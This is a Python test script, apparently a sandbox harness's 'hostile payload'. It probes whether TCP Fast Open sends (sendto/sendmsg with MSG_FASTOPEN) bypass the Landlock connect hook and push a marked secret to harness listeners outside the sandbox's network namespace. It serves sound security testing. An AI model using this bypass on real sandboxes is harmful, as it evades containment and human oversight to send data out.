"""Hostile payload (network): TCP Fast Open, the connect that is not a connect(2): sendto() and
sendmsg() with MSG_FASTOPEN on an unconnected TCP socket open the connection inside the send path
(tcp_sendmsg_fastopen -> __inet_stream_connect), with data in the SYN, and no LSM connect hook
runs (landlock-lsm/linux#41). Targets are "ADDRESS:PORT" arguments: the harness's TCP listener on
the host's loopback and on the host's non-loopback address.

The sandbox claims no TCP connection leaves its network namespace: a fast-open connect must find
only the sandbox's own loopback (ECONNREFUSED: nothing listens there) or no route
(ENETUNREACH), and the listeners must accept nothing.
One JSON line per attempt: {"op": "tcp_fastopen", "call": "sendto"|"sendmsg", "target": T,
"ret": R, "errno": NAME} ("OK" when the data was queued on a connection; "SKIPPED" when the
harness found no non-loopback host address)."""
import errno
import json
import socket
import sys

MSG_FASTOPEN = getattr(socket, "MSG_FASTOPEN", 0x20000000)
SECRET = b"exfiltrated-by-hostile-payload\n"


def report(call, target, ret, err):
    print(json.dumps({"op": "tcp_fastopen", "call": call, "target": target, "ret": ret,
                      "errno": "OK" if err is None else errno.errorcode.get(err, str(err))}),
          flush=True)


for target in sys.argv[1:]:
    host, _, port = target.rpartition(":")
    host = host.strip("[]")
    if not host:
        print(json.dumps({"op": "tcp_fastopen", "target": target, "ret": 0, "errno": "SKIPPED",
                          "reason": "no host address"}), flush=True)
        continue
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    addr = (host, int(port))
    for call in ("sendto", "sendmsg"):
        with socket.socket(family, socket.SOCK_STREAM) as s:
            n = 0
            try:
                # Blocking: the send waits for the handshake, like connect(2) would.
                if call == "sendto":
                    n = s.sendto(SECRET, MSG_FASTOPEN, addr)
                else:
                    n = s.sendmsg([SECRET], [], MSG_FASTOPEN, addr)
                # A refused SYN shows up on the next call at the latest.
                s.settimeout(3)
                s.recv(1)
            except socket.timeout:
                report(call, target, n, None)
            except OSError as e:
                report(call, target, -1, e.errno)
            else:
                report(call, target, n, None)
